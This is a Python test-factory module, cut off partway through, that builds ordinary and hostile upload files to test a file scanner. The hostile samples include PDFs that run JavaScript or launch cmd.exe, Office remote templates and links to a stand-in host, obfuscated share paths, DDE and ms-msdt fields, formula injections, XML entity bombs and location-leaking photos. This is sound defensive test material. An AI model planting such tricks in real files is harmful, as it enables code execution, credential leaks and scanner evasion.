"""Files as people upload them, ordinary and hostile, made on the spot: no file is from anybody."""

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, PngImagePlugin

from tests.factories.registers import jpeg_file, office_file, pdf_file, png_file

UNC = "\\\\203.0.113.7\\share\\x"
SHARES = (
    " \\\\203.0.113.7\\s",
    " //203.0.113.7/s",
    "\t\\\\203.0.113.7\\s",
    "\0\\\\203.0.113.7\\s",
    "\u3000\\\\203.0.113.7\\s",
    "\u200b//203.0.113.7/s",
    "\n \r\\/203.0.113.7\\s",
    "\\ \\203.0.113.7\\s",
    "＼＼203.0.113.7＼s",
    "%5C%5C203.0.113.7%5Cs",
    " file://203.0.113.7/s",
    "fi\tle:////203.0.113.7/s",
    "file:///\\\\203.0.113.7\\s",
    "\\??\\UNC\\203.0.113.7\\s",
)
"""Network shares as they may be spelt: programs pass over blanks and invisible marks."""

WRITTEN_SHARES = tuple(share for share in SHARES if "\0" not in share)
"""Those that XML can hold."""

WEB = "http://203.0.113.7/x"
MAIN = "application/vnd.openxmlformats-officedocument"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
WORD_RELATIONS = "word/_rels/document.xml.rels"

# The smallest PDF of the trials: no page, no table of objects.
BARE_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)


# --- PDF ---


def pdf_with(change: Callable[[Pdf], None], *, packed: bool = False, **saved: object) -> bytes:
    """A PDF of one page with words on it, changed; `packed` puts its objects into streams."""
    pdf = Pdf.open(io.BytesIO(written_page()))
    change(pdf)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.preserve
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=mode, compress_streams=packed, **saved)
    return out.getvalue()


@cache
def written_page() -> bytes:
    """A page that shows a line of words."""
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(300, 100))
    page = pdf.pages[0].obj
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = Stream(pdf, b"BT /F1 20 Tf 20 40 Td (Service record 2026) Tj ET")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def opens_with(done: Dictionary) -> Callable[[Pdf], None]:
    return lambda pdf: setattr(pdf.Root, "OpenAction", done)


def annotated(**annotation: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        rect = Array([0, 0, 50, 50])
        pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Rect=rect, **annotation)])

    return change


def linked(done: Dictionary) -> Callable[[Pdf], None]:
    return annotated(Subtype=Name.Link, A=done)


def attached(name: str, content: bytes) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, content, filename=name)

    return change


def both(*changes: Callable[[Pdf], None]) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        for one in changes:
            one(pdf)

    return change


def signed(pdf: Pdf) -> None:
    """The places of a signature, as a reader finds them."""
    value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 10, 20, 10]), Contents=String("00"))
    field = Dictionary(FT=Name.Sig, T=String("sig"), V=pdf.make_indirect(value))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)


def _names_of_scripts(pdf: Pdf) -> None:
    leaf = Array([String("x"), pdf.make_indirect(action("JavaScript", JS=String("app.alert(1)")))])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=leaf))


def _xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp:xdp/>"))


def _field_that_counts(pdf: Pdf) -> None:
    script = action("JavaScript", JS=Stream(pdf, b"AFSimple_Calculate()"))
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(C=script))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def _chained(pdf: Pdf) -> None:
    second = pdf.make_indirect(action("Launch", F=String("cmd.exe")))
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = action("GoTo", D=Array([page, Name.Fit]), Next=Array([second]))


def _page_opens(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action("URI", URI=String(WEB)))


def _stream_elsewhere(pdf: Pdf) -> None:
    pdf.pages[0].obj.Contents.stream_dict["/F"] = String(UNC)


def _portfolio(pdf: Pdf) -> None:
    attached("正文.docx", b"PK")(pdf)
    pdf.Root.Collection = Dictionary(Type=Name.Collection)


def _fonts_called_like_actions(pdf: Pdf) -> None:
    fonts = pdf.pages[0].obj.Resources.Font
    for name in ("/AA", "/EF", "/A", "/JS", "/Ref"):
        fonts[name] = pdf.make_indirect(Dictionary(fonts.F1))


SCRIPT = action("JavaScript", JS=String("app.alert(1)"))
HOSTILE_PDFS: Mapping[str, Callable[[], bytes]] = {
    "script when opened": lambda: pdf_with(opens_with(SCRIPT)),
    "script in a stream of objects": lambda: pdf_with(opens_with(SCRIPT), packed=True),
    "script with a name in signs": lambda: pdf_with(opens_with(SCRIPT)).replace(
        b"/JavaScript", b"/J#61vaScript"
    ),
    "action with a key in signs": lambda: pdf_with(opens_with(SCRIPT)).replace(
        b"/OpenAction", b"/Open#41ction"
    ),
    "script by name": lambda: pdf_with(_names_of_scripts),
    "script by name, packed": lambda: pdf_with(_names_of_scripts, packed=True),
    "script in a link": lambda: pdf_with(linked(SCRIPT)),
    "script of a field": lambda: pdf_with(_field_that_counts),
    "script in a stream of objects without a table": lambda: (
        BARE_PDF[:-5] + _stream_of_objects(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")
    ),
    "script nobody points to": lambda: (
        pdf_file(b"9 0 obj<</S/JavaScript/JS(x)>>endobj") + b"%%EOF\n"
    ),
    "script behind a password of the owner": lambda: pdf_with(
        opens_with(SCRIPT), encryption=pikepdf.Encryption(owner="o", user="")
    ),
    "web address when opened": lambda: pdf_with(opens_with(action("URI", URI=String(WEB)))),
    "web address when a page shows": lambda: pdf_with(_page_opens),
    "launch": lambda: pdf_with(opens_with(action("Launch", F=String("cmd.exe")))),
    "launch in a link": lambda: pdf_with(linked(action("Launch", Win=Dictionary(F=String("c"))))),
    "launch behind a going": lambda: pdf_with(_chained),
    "another file on the network": lambda: pdf_with(linked(action("GoToR", F=String(UNC)))),
    "another file on the network when opened": lambda: pdf_with(
        opens_with(action("GoToR", F=String(UNC)))
    ),
    "a file inside another": lambda: pdf_with(linked(action("GoToE", F=String(UNC)))),
    "link to a share": lambda: pdf_with(linked(action("URI", URI=String(UNC)))),
    "link to a file": lambda: pdf_with(linked(action("URI", URI=String("file://h/x")))),
    "link that is a script": lambda: pdf_with(
        linked(action("URI", URI=String("JavaScript:app.alert(1)")))
    ),
    **{
        f"link to a share, spelt {share!a}": lambda share=share: pdf_with(
            linked(action("URI", URI=String(share)))
        )
        for share in SHARES
    },
    "form that sends": lambda: pdf_with(linked(action("SubmitForm", F=String(WEB)))),
    "form that reads": lambda: pdf_with(linked(action("ImportData", F=String(UNC)))),
    "program inside": lambda: pdf_with(attached("a.exe", b"MZ")),
    "program inside, packed": lambda: pdf_with(attached("a.exe", b"MZ"), packed=True),
    "file as a note": lambda: pdf_with(
        annotated(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a")))
    ),
    "action nobody knows": lambda: pdf_with(linked(action("Plugin", Do=String("x")))),
    "action with a name in an old encoding": lambda: pdf_with(linked(action("Plug"))).replace(
        b"/Plug", b"/Pl\xcb\xce"
    ),
    "link that is a script after a blank": lambda: pdf_with(
        linked(action("URI", URI=String(" vbscript:x")))
    ),
    "media": lambda: pdf_with(
        annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary()))
    ),
    "screen with a rendition": lambda: pdf_with(
        annotated(Subtype=Name.Screen, A=action("Rendition", JS=String("app.alert(1)")))
    ),
    "film": lambda: pdf_with(annotated(Subtype=Name.Movie, A=True)),
    "three dimensions": lambda: pdf_with(annotated(Subtype=Name("/3D"))),
    "form made by a program": lambda: pdf_with(_xfa),
    "photograph with its place": lambda: pdf_with(picture(jpeg_file(exif=place()))),
    "photograph with its place, packed": lambda: pdf_with(
        picture(jpeg_file(exif=place()), "Flate"), packed=True
    ),
    "photograph with its place, packed twice": lambda: pdf_with(
        picture(jpeg_file(comment=b"lat=22.2, lng=113.2"), "Flate", "ASCIIHex")
    ),
    "photograph with its place behind a password of the owner": lambda: pdf_with(
        picture(jpeg_file(exif=place())), encryption=pikepdf.Encryption(owner="o", user="")
    ),
    "place said of it": lambda: pdf_with(told, fix_metadata_version=False),
    "content in another file": lambda: pdf_with(_stream_elsewhere),
    "collection": lambda: pdf_with(_portfolio),
    "web page in front": lambda: b"<html><script>x()</script>\n" + pdf_file(),
    "web page inside": lambda: pdf_file(b"%<html><script>x()</script></html>"),
    "archive behind": lambda: pdf_file() + zipped({"a.js": b"x"}),
    "program in front": lambda: b"MZ\x90\0" + bytes(60) + pdf_file(),
    "locked": lambda: pdf_with(
        lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="u")
    ),
    "locked by what is not there": lambda: BARE_PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root"),
    "no PDF behind its head": lambda: b"%PDF-1.4 garbage %%EOF",
    "signed and active": lambda: pdf_with(both(signed, opens_with(SCRIPT))),
    "signed with a program inside": lambda: pdf_with(both(signed, attached("a.exe", b"MZ"))),
}
ORDINARY_PDFS: Mapping[str, Callable[[], bytes]] = {
    "as printed": written_page,
    "packed": lambda: pdf_with(lambda pdf: None, packed=True),
    "bare": lambda: BARE_PDF,
    "saved again without its jump": lambda: (
        pdf_file(b"9 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj") + b"%%EOF\n"
    ),
    "words of scripts": lambda: scan(b"(TypeScript/JavaScript) /Launch /JS "),
    "bare with a name among its pixels": lambda: bare_with(b"\x00\x01/JS\xff\x10"),
    "bare with words of scripts": lambda: bare_with(b"(TypeScript/JavaScript)"),
    "with a mark in front": lambda: b"\xef\xbb\xbf" + pdf_file(),
    "with a line in front": lambda: b"\r\n" + pdf_file(),
    "bare with a mark in front": lambda: b"\xef\xbb\xbf" + BARE_PDF,
    "bare with a line in front": lambda: b"\r\n" + BARE_PDF,
    "with padding behind": lambda: pdf_file() + bytes(4096),
    "bare with padding behind": lambda: BARE_PDF + bytes(4096),
    "no printing allowed": lambda: pdf_with(
        lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user="")
    ),
    "link to the web": lambda: pdf_with(linked(action("URI", URI=String("https://gov.cn/")))),
    "link to a place beside it": lambda: pdf_with(
        linked(action("URI", URI=String(" 附件/图 1.pdf#page=2")))
    ),
    "names in an old encoding": lambda: (
        pdf_with(lambda pdf: None)
        .replace(b"/F1", b"/F\xcb")
        .replace(b"/Helvetica", b"/\xcb\xce\xcc\xe5\xcb\xce\xcc\xe5\xcb")
    ),
    "fonts called like actions": lambda: pdf_with(_fonts_called_like_actions),
    "goes to its first page": lambda: pdf_with(
        lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit]))
    ),
    "signed": lambda: pdf_with(signed),
    "signed with a photograph and its place": lambda: pdf_with(
        both(signed, picture(jpeg_file(exif=place())))
    ),
    "photograph without a place": lambda: pdf_with(picture(jpeg_file(exif=way_up()))),
    "signed with the data of the invoice": lambda: pdf_with(
        both(signed, attached("invoice.xml", b"<EInvoice/>"))
    ),
}


def picture(content: bytes, *packings: str) -> Callable[[Pdf], None]:
    """A photograph on the page, its bytes packed again if asked."""

    def change(pdf: Pdf) -> None:
        packed = content
        for packing in packings:
            packed = zlib.compress(packed) if packing == "Flate" else packed.hex().encode() + b">"
        made = Stream(pdf, packed)
        filters = [Name(f"/{packing}Decode") for packing in reversed(packings)]
        made.stream_dict.update(
            {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 16, "/Height": 16}
        )
        made["/ColorSpace"], made["/BitsPerComponent"] = Name.DeviceGray, 8
        made["/Filter"] = Array([*filters, Name.DCTDecode]) if filters else Name.DCTDecode
        pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=made)

    return change


def told(pdf: Pdf) -> None:
    """What is said of the document, with the place of its photograph."""
    pdf.Root.Metadata = Stream(pdf, XMP_PLACE)
    pdf.Root.Metadata.stream_dict.update({"/Type": Name.Metadata, "/Subtype": Name.XML})


def _stream_of_objects(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    said = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(packed)
    return b"6 0 obj%sstream\n%s\nendstream endobj\n%%%%EOF" % (said, packed)


def bare_with(stream: bytes) -> bytes:
    """The smallest PDF with a stream that nothing refers to."""
    said = b"3 0 obj<</Length %d>>stream\n%s\nendstream endobj\n%%%%EOF" % (len(stream), stream)
    return BARE_PDF[:-5] + said


def scan(pixels: bytes) -> bytes:
    """A page that shows an opaque picture, whatever its bytes look like."""
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    picture = Stream(pdf, pixels)
    picture.stream_dict.update(
        {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": len(pixels), "/Height": 1}
    )
    picture["/ColorSpace"], picture["/BitsPerComponent"] = Name.DeviceGray, 8
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def random_scan(seed: int) -> bytes:
    """A scan with the names of actions among its random bytes, as large scans have them."""
    made = random.Random(seed)
    marks = (
        b"/JS ",
        b"/JavaScript ",
        b"/Launch ",
        b"/RichMedia ",
        b"/XFA ",
        b"/AA<<>>",
        b"PK\x03\x04",
    )
    parts = [made.randbytes(made.randrange(1, 900)) for _ in range(4)]
    return scan(b"".join(part + made.choice(marks) for part in parts))


# --- photographs ---


def place(**more: object) -> bytes:
    """A camera's data that tells way up, time, model and place."""
    exif = Image.Exif()
    exif[0x0112], exif[0x0110] = 6, "Phone"
    exif.get_ifd(0x8769)[0x9003] = "2026:05:06 09:00:00"
    exif.get_ifd(0x8769)[0x927C] = b"closed book"
    exif.get_ifd(0x8825).update({1: "N", 2: (22.0, 13.0, 30.0), 3: "E", 4: (113.0, 17.0, 0.0)})
    return exif.tobytes()


def commented(tag: int, words: bytes, *, inner: bool = False) -> bytes:
    """A camera's data with a comment of somebody."""
    exif = Image.Exif()
    exif[0x0112] = 6
    (exif.get_ifd(0x8769) if inner else exif)[tag] = words
    return exif.tobytes()


def between_scans() -> bytes:
    """A progressive photograph that tells its place between two scans."""
    whole, data = jpeg_file(progressive=True), place()
    at = whole.index(b"\xff\xda", whole.index(b"\xff\xda") + 2)
    return whole[:at] + b"\xff\xe1" + (len(data) + 2).to_bytes(2) + data + whole[at:]


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    """A PNG with a chunk of somebody before its end."""
    body = kind + payload
    made = png_file()
    at = made.rindex(b"IEND") - 4
    chunk = len(payload).to_bytes(4) + body + zlib.crc32(body).to_bytes(4)
    return made[:at] + chunk + made[at:]


WORDS_OF_PLACE = (
    "lat=22.2,lng=113.2",
    '{"lat":22.2,"lng":113.2}',
    "Longitude: 113.28",
    "经度113.28 纬度22.22",
    "22.225012, 113.283311",
    "22°13'30\"N 113°17'0\"E",
    "+22.2250+113.2833/",
    "广东省珠海市香洲区人民东路 1 号",
)


def way_up() -> bytes:
    """A camera's data without a place."""
    exif = Image.Exif()
    exif[0x0112] = 6
    return exif.tobytes()


XMP_PLACE = b'<x:xmpmeta><rdf exif:GPSLatitude="22,13.5N"/></x:xmpmeta>'
FILM = b"\0\0\0\x18ftypmp42" + bytes(40) + b"\xa9xyz+22.2250+113.2833/"


def png_saved(**saved: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((16, 16)).save(out, "PNG", **saved)
    return out.getvalue()


def png_words(keyword: str, words: str, *, packed: bool) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_itxt(keyword, words, zip=packed)
    return png_saved(pnginfo=info)


HOSTILE_PHOTOS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "place": ("a.jpg", lambda: jpeg_file(exif=place())),
    "place, progressive": ("a.jpg", lambda: jpeg_file(exif=place(), progressive=True)),
    "place in other data": ("a.jpg", lambda: jpeg_file(xmp=XMP_PLACE)),
    "place in data that break off": (
        "a.jpg",
        lambda: jpeg_file(exif=place()).replace(b"\x88\x25\x00\x04", b"\x88\x25\x00\x02"),
    ),
    "place in a comment": ("a.jpg", lambda: jpeg_file(comment=b"GPSLatitude=22.2")),
    **{
        f"place in {where}, as {words}": ("a.jpg", lambda made=made, words=words: made(words))
        for words in WORDS_OF_PLACE
        for where, made in {
            "a comment": lambda words: jpeg_file(comment=words.encode()),
            "a comment in GBK": lambda words: jpeg_file(comment=words.encode("gbk")),
            "the user's comment": lambda words: jpeg_file(
                exif=commented(0x9286, b"UNICODE\0" + words.encode("utf-16-be"), inner=True)
            ),
            "the description": lambda words: jpeg_file(exif=commented(0x010E, words.encode())),
            "the comment of Windows": lambda words: jpeg_file(
                exif=commented(0x9C9C, words.encode("utf-16-le"))
            ),
        }.items()
    },
    "place between scans": ("a.jpg", between_scans),
    "place in the small picture": (
        "a.jpg",
        lambda: jpeg_file(exif=commented(0x927C, jpeg_file(exif=place()), inner=True)),
    ),
    "place in a chunk of somebody": ("a.png", lambda: png_chunk(b"geOl", b'{"lat":22.2}')),
    "place in data of somebody": (
        "a.png",
        lambda: png_chunk(b"exIF", place().removeprefix(b"Exif\0\0")),
    ),
    "place in words": ("a.png", lambda: png_words("Comment", "纬度 22.2", packed=True)),
    "film behind": ("a.jpeg", lambda: jpeg_file() + FILM),
    "film behind, place in front": ("a.jpg", lambda: jpeg_file(exif=place()) + FILM),
    "second picture behind": ("a.jpg", lambda: jpeg_file() + jpeg_file(exif=place())),
    "archive behind": ("a.jpg", lambda: jpeg_file() + zipped({"a.js": b"x"})),
    "place in a PNG": ("a.png", lambda: png_saved(exif=place())),
    "place in words of a PNG": (
        "a.png",
        lambda: png_words("XML:com.adobe.xmp", XMP_PLACE.decode(), packed=False),
    ),
    "place in packed words of a PNG": (
        "a.png",
        lambda: png_words("XML:com.adobe.xmp", XMP_PLACE.decode(), packed=True),
    ),
    "data behind a PNG": ("a.png", lambda: png_file() + b"<script>x()</script>"),
    "900 million pixels": ("a.png", lambda: png_file(30_000, 30_000)),
    "HEIC by another name": ("a.jpg", lambda: b"\0\0\0\x18ftypheic" + bytes(99)),
}
ORDINARY_PHOTOS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "as saved": ("IMG_1.jpeg", jpeg_file),
    "as saved by a browser": ("下载.jfif", jpeg_file),
    "as saved by another": ("a.JPE", jpeg_file),
    "with a wide dot": ("照片．png", png_file),
    "with a gap between its segments": (
        "a.jpg",
        lambda: jpeg_file().replace(b"\xff\xdb", b"gap\xff\xdb", 1),
    ),
    "of two pixels": ("a.jpg", lambda: jpeg_file(size=2)),
    "progressive": ("a.jpg", lambda: jpeg_file(progressive=True)),
    "comment": ("a.jpg", lambda: jpeg_file(comment="入户服务，2 小时，第 3 次，平面图 1".encode())),
    "description": (
        "a.jpg",
        lambda: jpeg_file(exif=commented(0x010E, b"flat 3, long=5, 1.5, platinum 2.0")),
    ),
    "chunk of somebody": ("a.png", lambda: png_chunk(b"vpAg", bytes(9))),
    "way up": ("a.jpg", lambda: jpeg_file(exif=way_up())),
    "padding of 63": ("a.jpg", lambda: jpeg_file() + bytes(63)),
    "padding of 100,000": ("a.jpg", lambda: jpeg_file() + b"\xff" * 100_000),
    "without its end": ("a.jpg", lambda: jpeg_file()[:-2]),
    "PNG": ("a.png", png_file),
    "PNG with padding": ("a.png", lambda: png_file() + bytes(5)),
    "PNG with a way up": ("a.png", lambda: png_saved(exif=way_up())),
}


# --- office ---


def zipped(parts: Mapping[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str = WEB, **more: str) -> bytes:
    said = "".join(f' {name}="{words}"' for name, words in more.items())
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{said}/></Relationships>'
    ).encode()


def outside(kind: str, target: str = WEB) -> bytes:
    return relation(kind, target, TargetMode="External")


def signs(words: str) -> str:
    """The words as an attribute holds them, letter by letter where they are no letters."""
    return "".join(c if c.isascii() and c.isalnum() else f"&#{ord(c)};" for c in words)


def wide(xml: bytes) -> bytes:
    """The same XML in UTF-16, as Office reads it too."""
    return ('<?xml version="1.0" encoding="UTF-16"?>' + xml.decode()).encode("utf-16")


def written_in(encoding: str, xml: str) -> bytes:
    """The same XML in an encoding that it declares."""
    return f'<?xml version="1.0" encoding="{encoding}"?>{xml}'.encode(encoding)


def late(xml: bytes) -> bytes:
    """The same with more than 1 MiB before what matters; random, or it would be a bomb."""
    blank = random.Random(1).randbytes(600_000).hex().encode()
    at = xml.index(b"<Relationship ") if b"<Relationship " in xml else 0
    return xml[:at] + b"<!--" + blank + b"-->" + xml[at:]


def types(**overrides: str) -> bytes:
    said = {"word/document.xml": f"{MAIN}.wordprocessingml.document.main+xml", **overrides}
    lines = "".join(f'<Override PartName="/{k}" ContentType="{v}"/>' for k, v in said.items())
    return f"<Types>{lines}</Types>".encode()


def word(**parts: bytes) -> bytes:
    return office_file(extra={name: content for name, content in parts.items()})


def field_of(*pieces: str, simple: bool = False) -> bytes:
    """A document with a field, its instruction cut into these pieces."""
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    if simple:
        return f'<w:document {w}><w:fldSimple w:instr="{"".join(pieces)}"/></w:document>'.encode()
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:document {w}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>'
    ).encode()


DDE_FIELD = "<w:fldSimple w:instr='DDEAUTO c calc'/>"


def _many_words() -> str:
    """Chinese words of more than 1 MiB in two bytes each, which no archive packs like a bomb."""
    made = random.Random(2)
    return "".join(made.choices("一乙丁七乃九了二人", k=600_001))


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE = outside("attachedTemplate")
DOCTYPE = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
LAUGHS = (
    b"<!DOCTYPE a [<!ENTITY x0 'ha'>"
    + b"".join(b"<!ENTITY x%d '%s'>" % (n, b"&x%d;" % (n - 1) * 10) for n in range(1, 9))
    + b"]><a>&x8;</a>"
)


def nested_field(before: str, inner: str, after: str) -> bytes:
    """A document with a field inside another's instruction."""
    return field_of(
        f"{before}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r>"
        f"<w:instrText>{inner}</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"
        f"<w:r><w:instrText>{after}"
    )


MADE_UP = nested_field("", "QUOTE 68 68 69", "AUTO c calc")


def sheet(**parts: bytes) -> bytes:
    return office_file("xlsx", {f"xl/{name}.xml": content for name, content in parts.items()})


def pivot(refresh: str, source: str) -> bytes:
    said = f'<pivotCacheDefinition refreshOnLoad="{refresh}"><cacheSource {source}'
    return f"{said}</cacheSource></pivotCacheDefinition>".encode()


def merging(source: str) -> bytes:
    """A document that is merged with names from there."""
    return word(
        **{
            "word/settings.xml": f"<w:settings><w:mailMerge><w:connectString w:val='{source}'/>"
            "</w:mailMerge></w:settings>".encode()
        }
    )


FORMULAS = (
    f'_xlfn.IMAGE("{WEB}"&amp;A1)',
    "image (A1)",
    'RTD("x.y",,"a")',
    "_xll.Run(1)",
    'SQL.REQUEST("DSN=a")',
    "'file://203.0.113.7/[a.xlsx]S'!A1",
    "' \\\\203.0.113.7\\s\\[a.xlsx]S'!A1",
    "'http://203.0.113.7/[a.xlsx]S'!A1",
    "\\\\203.0.113.7\\s\\[a.xlsx]S!A1",
    'HYPERLINK("\\\\203.0.113.7\\s")',
    'HYPERLINK("\\"&amp;"\\203.0.113.7\\s","见附件")',
    'HYPERLINK("ms-msdt:/id")',
    "cmd|/c!A0",
    "cmd|'/C calc'!A0",
    "'cmd'|'/C calc'!A0",
)
PLAIN_FORMULAS = (
    "SUM(A1:A9)*2",
    '"甲|乙!"&amp;"见 //x"',
    "'甲|乙'!A1",
    "'C:\\[2025.xlsx]S'!A1",
    "[1]Sheet1!A1",
    f'HYPERLINK("{WEB}","网页")',
    'HYPERLINK("#Sheet2!A1","见表 2")',
    "RECALL(1)+IMAGES(2)",
    "SUM('Jan 1:Mar 1'!A1)",
    f'HYPERLINK("{WEB}","Note: page 2")',
    "Table1[[#This Row],[a|b]]",
)
HOSTILE_OFFICE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "photograph with its place": (
        "a.docx",
        lambda: word(**{"word/media/image1.jpeg": jpeg_file(exif=place())}),
    ),
    "photograph with its place under another name": (
        "a.docx",
        lambda: word(**{"word/media/image1.dat": jpeg_file(comment="经度 113.2".encode())}),
    ),
    "PNG with its place": (
        "a.xlsx",
        lambda: office_file("xlsx", {"xl/media/image1.png": png_saved(exif=place())}),
    ),
    "photograph with its place in the document of a document": (
        "a.docx",
        lambda: word(
            **{"word/embeddings/a.docx": word(**{"word/media/a.jpg": jpeg_file() + FILM})}
        ),
    ),
    "template from the web": ("a.docx", lambda: word(**{WORD_RELATIONS: TEMPLATE})),
    "template in UTF-16": ("a.docx", lambda: word(**{WORD_RELATIONS: wide(TEMPLATE)})),
    "template in GBK": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: written_in("GBK", f"<!--珠海-->{TEMPLATE.decode()}")}),
    ),
    "DDE behind 1 MiB of Big5": (
        "a.docx",
        lambda: word(
            **{"word/a.xml": written_in("Big5", f"<a><!--{_many_words()}-->{DDE_FIELD}</a>")}
        ),
    ),
    "template late": ("a.docx", lambda: word(**{WORD_RELATIONS: late(TEMPLATE)})),
    "template with a sign in its mode": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: TEMPLATE.replace(b"External", b"Ext&#101;rnal")}),
    ),
    "template that says hyperlink": (
        "a.docx",
        lambda: word(
            **{WORD_RELATIONS: TEMPLATE.replace(b"Id=", b"""Note="Type='/hyperlink'" Id=""")}
        ),
    ),
    "template of another part": (
        "a.docx",
        lambda: word(**{"word/_rels/settings.xml.rels": outside("attachedTemplate", UNC)}),
    ),
    "template without a mode": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: relation("attachedTemplate")}),
    ),
    "picture on a share": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("image", UNC)})),
    "picture by file address": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: outside("image", "file://203.0.113.7/x.png")}),
    ),
    "link to a share": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("hyperlink", UNC)})),
    **{
        f"{kind} on a share, spelt {share!a}": (
            "a.docx",
            lambda kind=kind, share=share: word(**{WORD_RELATIONS: outside(kind, signs(share))}),
        )
        for kind in ("hyperlink", "image")
        for share in WRITTEN_SHARES
    },
    **{
        f"{keyword} of a share, spelt {share!a}": (
            "a.docx",
            lambda keyword=keyword, share=share: word(
                **{"word/document.xml": field_of(f' {keyword} "{signs(share)}" ')}
            ),
        )
        for keyword in ("INCLUDEPICTURE", "HYPERLINK", "RD")
        for share in WRITTEN_SHARES
    },
    **{
        f"old drawing from a share, spelt {share!a}": (
            "a.xlsx",
            lambda share=share: office_file(
                "xlsx",
                {"xl/drawings/a.vml": f"<v:fill src='{signs(share)}'><br>".encode("ascii")},
            ),
        )
        for share in WRITTEN_SHARES
    },
    **{
        f"drawing from a share, spelt {share!a}": (
            "a.docx",
            lambda share=share: word(
                **{"word/a.xml": f"<v:imagedata o:href='{signs(share)}'/>".encode()}
            ),
        )
        for share in WRITTEN_SHARES
    },
    "field that links to a program": (
        "a.docx",
        lambda: word(**{"word/document.xml": field_of('HYPERLINK "ms-msdt:/id PCW"')}),
    ),
    "link that is a program": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: outside("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
    ),
    "object from the web": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: outside("oleObject", f"mhtml:{WEB}!x-usc:{WEB}")}),
    ),
    "frame from the web": ("a.docx", lambda: word(**{WORD_RELATIONS: outside("frame")})),
    "other text inside": (
        "a.docx",
        lambda: word(**{WORD_RELATIONS: relation("aFChunk", "a.rtf"), "word/a.bin": b"{\\rtf1}"}),
    ),
    "picture in the text": (
        "a.docx",
        lambda: word(**{"word/header1.xml": b'<v:imagedata xmlns:v="v" src="http://x/a.png"/>'}),
    ),
    "picture in an old drawing": (
        "a.xlsx",
        lambda: office_file(
            "xlsx", {"xl/drawings/vmlDrawing1.vml": b"<v:fill src='http://203.0.113.7/a'><br>"}
        ),
    ),
    "document type": ("a.docx", lambda: word(**{"word/a.xml": DOCTYPE})),
